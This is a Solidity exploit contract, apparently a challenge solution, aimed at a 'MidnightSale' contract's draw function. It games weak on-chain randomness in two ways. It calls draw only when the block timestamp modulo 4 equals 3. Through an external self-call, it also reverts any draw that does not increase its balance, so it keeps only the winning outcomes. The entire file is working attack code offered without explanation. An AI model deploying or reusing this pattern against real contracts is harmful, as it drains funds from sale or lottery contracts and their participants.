// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./contract.sol";

contract Waiter {
    MidnightSale private immutable sale;

    constructor(MidnightSale target) payable {
        sale = target;
    }

    function pay() external {
        uint256 most = address(sale).balance;
        sale.pay{value: address(this).balance < most ? address(this).balance : most}();
    }

    function attempt() external {
        if (block.timestamp % 4 == 3) {
            try sale.draw() {} catch {}
        }
    }

    /// Draws, and takes it back unless something came of it.
    function insist() external {
        uint256 before = address(this).balance;
        try this.lucky(before) {} catch {}
    }

    function lucky(uint256 before) external {
        sale.draw();
        require(address(this).balance > before, "no luck");
    }

    receive() external payable {}
}
